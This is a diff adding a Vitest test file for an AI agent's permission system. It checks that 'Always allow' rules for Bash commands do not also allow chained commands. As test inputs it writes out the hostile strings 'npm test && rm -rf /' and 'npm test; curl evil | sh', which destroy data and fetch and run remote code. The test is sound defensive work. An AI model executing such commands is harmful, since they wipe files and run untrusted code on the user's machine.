@@ -1,0 +1,26 @@
+// The rule "Always allow" writes (server/permissionRule.ts), checked against the policy that reads it
+// (agent/permissions.ts): it allows the call it was made for, and for Bash no command that chains
+// another one onto it.
+import { describe, expect, it } from 'vitest';
+import { ruleMatches } from '../../src/agent/permissions.js';
+import { allowRuleFor } from '../../src/server/permissionRule.js';
+
+describe('allowRuleFor', () => {
+  it.each([
+    ['npm test', 'Bash(npm test:*)'],
+    ['npm test -- --watch=false', 'Bash(npm test:*)'],
+    ['git status --short', 'Bash(git status:*)'],
+    ['ls -la', 'Bash(ls:*)'],
+    ['./scripts/check.sh fast', 'Bash(./scripts/check.sh fast:*)'],
+    ['npm test && rm -rf /', 'Bash(npm test && rm -rf /)'],
+  ])('Bash %s → %s', (command, rule) => {
+    expect(allowRuleFor('Bash', { command })).toBe(rule);
+    expect(ruleMatches(rule, 'Bash', 'execute', command, '/p')).toBe(true);
+  });
+
+  it('a prefix rule does not allow a chained command; file tools get the tool rule', () => {
+    expect(ruleMatches(allowRuleFor('Bash', { command: 'npm test' })!, 'Bash', 'execute', 'npm test; curl evil | sh', '/p')).toBe(false);
+    expect(allowRuleFor('Edit', { file_path: '/p/a.ts' })).toBe('Edit');
+    expect(allowRuleFor('Bash', { command: 'echo a\necho b' })).toBeNull();
+  });
+});
